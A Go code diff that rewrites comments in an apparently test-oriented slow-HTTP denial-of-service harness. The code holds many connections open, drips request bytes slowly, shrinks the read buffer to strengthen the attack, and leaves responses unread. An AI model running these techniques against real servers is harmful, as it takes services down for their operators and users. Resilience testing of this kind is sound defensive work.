@@ -10,7 +10,7 @@ import (
 	"time"
 )
 
-// text is a request as it goes over the wire, with a body that is as long as its headers say or is never finished.
+// text returns a request as it is sent. Its body may be shorter than its headers say.
 func text(method, path, authorization, headers, body string) string {
 	if authorization != "" {
 		headers += "Authorization: " + authorization + "\r\n"
@@ -22,8 +22,8 @@ func contentLength(n int) string {
 	return fmt.Sprintf("Content-Length: %d\r\nContent-Type: application/json\r\n", n)
 }
 
-// dial opens a connection to one of the servers, which is closed when ctx ends. It has a small window, so that what is not read
-// stays with the server.
+// dial opens a connection to one of the servers, which is closed when ctx ends. Its small window keeps unread bytes with the
+// server.
 func (a *attacker) dial(ctx context.Context) (net.Conn, error) {
 	u, err := url.Parse(a.server())
 	if err != nil {
@@ -34,13 +34,14 @@ func (a *attacker) dial(ctx context.Context) (net.Conn, error) {
 		return nil, err
 	}
 	if tcp, ok := conn.(*net.TCPConn); ok {
-		_ = tcp.SetReadBuffer(4096) // a larger one only weakens the attack
+		_ = tcp.SetReadBuffer(4096) // without it the attack is only weaker
 	}
 	context.AfterFunc(ctx, func() { conn.Close() })
 	return conn, nil
 }
 
-// hold keeps n connections, of which perSecond are opened a second: each is used by use, and opened again when that returns.
+// hold keeps n connections open, opening at most perSecond a second. It calls use for each connection, and replaces the
+// connection when use returns.
 func (a *attacker) hold(ctx context.Context, n int, perSecond float64, use func(context.Context, net.Conn)) {
 	pace := &pace{each: time.Duration(float64(time.Second) / perSecond)}
 	var group sync.WaitGroup
@@ -72,7 +73,7 @@ func (a *attacker) holdOne(ctx context.Context, use func(context.Context, net.Co
 	use(ctx, conn)
 }
 
-// drip sends a text, and then a byte each time that long has passed, until the server has had enough.
+// drip sends text, and then a byte at each interval, until the server closes the connection.
 func drip(text string, each time.Duration) func(context.Context, net.Conn) {
 	return func(ctx context.Context, conn net.Conn) {
 		_, err := io.WriteString(conn, text)
@@ -82,16 +83,16 @@ func drip(text string, each time.Duration) func(context.Context, net.Conn) {
 	}
 }
 
-// sendAndWait sends a request, and waits for the server to answer or to close the connection.
+// sendAndWait sends a request and waits until the server answers or closes the connection.
 func sendAndWait(text string) func(context.Context, net.Conn) {
 	return func(_ context.Context, conn net.Conn) {
 		if _, err := io.WriteString(conn, text); err == nil {
-			_, _ = conn.Read(make([]byte, 1)) // ends when ctx does, which closes the connection
+			_, _ = conn.Read(make([]byte, 1)) // returns when ctx ends, which closes the connection
 		}
 	}
 }
 
-// unread sends a request and reads nothing of the answer.
+// unread sends a request and does not read the answer.
 func unread(text string) func(context.Context, net.Conn) {
 	return func(ctx context.Context, conn net.Conn) {
 		if _, err := io.WriteString(conn, text); err == nil {
